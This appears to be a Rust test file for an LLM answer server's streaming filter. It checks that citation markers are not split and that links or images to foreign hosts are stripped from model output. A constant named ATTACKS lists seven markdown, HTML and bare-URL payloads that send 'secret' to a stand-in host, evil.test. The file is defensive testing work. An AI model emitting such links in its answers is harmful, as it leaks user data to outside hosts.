//! Markers and what a browser would follow, however the model's pieces are cut.

use std::ops::ControlFlow;

use serde_json::json;
use tenantry_domain::Cancellation;
use tenantry_llm_client::{Completer, Completion, FinishReason, LlmError, Prompt};

use super::bench::{answered_by, deltas, end, events, kept, latest, question, set, streamed};

/// A model that says a text letter by letter.
struct Spelling(&'static str);

impl Completer for Spelling {
    fn model(&self) -> &'static str {
        "spelling"
    }

    fn complete(&self, _: &Prompt) -> Result<Completion, LlmError> {
        Err(LlmError::Refused("it streams".into()))
    }

    fn stream(
        &self,
        _: &Prompt,
        cancellation: &Cancellation,
        on_delta: &mut dyn FnMut(&str) -> ControlFlow<()>,
    ) -> Result<Completion, LlmError> {
        for letter in self.0.chars() {
            if cancellation.is_cancelled() || on_delta(letter.encode_utf8(&mut [0; 4])).is_break() {
                return Err(LlmError::Cancelled);
            }
        }
        Ok(Completion {
            text: self.0.to_owned(),
            model: "spelling".to_owned(),
            asked: "spelling".to_owned(),
            finish: FinishReason::Stop,
            usage: None,
        })
    }
}

#[actix_web::test]
async fn no_marker_is_cut_and_those_that_cite_nothing_are_removed() {
    let server = answered_by(Spelling("Thirty days [1]. So says [9] too [12], see【1】.")).await;
    let answer = server.call_as("ada", streamed()).await;
    let events = events(answer.text());
    let deltas = deltas(&events);
    let text = deltas.concat();
    assert_eq!(
        text,
        "Thirty days [1]. So says too, see [1].".replace("see [1]", "see[1]")
    );
    for delta in &deltas {
        let open = delta.matches('[').count();
        assert_eq!(open, delta.matches("[1]").count(), "{delta:?}");
    }
    assert_eq!(end(&events)["citations"].as_array().unwrap().len(), 1);
    assert_eq!(
        kept(&latest(&server, "ada").await[1]),
        (text.as_str(), "complete")
    );
    assert_eq!(
        server.call_as("ada", question()).await.json()["answer"],
        json!(text)
    );
}

/// What would make a browser call `evil`, each on its own, with what may be left of it.
const ATTACKS: [&str; 7] = [
    "![x](https://evil.test/?q=secret)",
    "[click](https://evil.test/?q=secret)",
    "<img src=\"https://evil.test/?q=secret\">",
    "<https://evil.test/?q=secret>",
    "https://evil.test/?q=secret",
    "www.evil.test/?q=secret",
    "![x][1]\n\n[1]: https://evil.test/?q=secret",
];

#[actix_web::test]
async fn nothing_that_a_browser_would_follow_to_a_foreign_host_comes_out_at_any_moment() {
    for attack in ATTACKS {
        let server = answered_by(Spelling(attack)).await;
        let answer = server.call_as("ada", streamed()).await;
        let events = events(answer.text());
        let mut shown = String::new();
        for delta in deltas(&events) {
            shown.push_str(delta);
            for lure in ["](http", "]: http", "<img", "<http", "https://evil", "www.evil"] {
                assert!(!shown.contains(lure), "{attack:?}: {shown:?}");
            }
        }
        assert_eq!(kept(&latest(&server, "ada").await[1]).0, shown);
        assert_eq!(
            server.call_as("ada", question()).await.json()["answer"],
            json!(shown)
        );
    }
}

#[actix_web::test]
async fn the_tenants_own_hosts_may_be_shown_from_the_next_request_on() {
    let image = "![x](https://cdn.acme.example/a.png) [1]";
    let server = answered_by(Spelling(image)).await;
    let refused = server.call_as("ada", question()).await.json();
    assert_ne!(refused["answer"], json!(image));
    set(&server, "acme", json!({"allowed_hosts": ["*.acme.example"]})).await;
    let shown = server.call_as("ada", question()).await.json();
    assert_eq!(shown["answer"], json!(image));
}
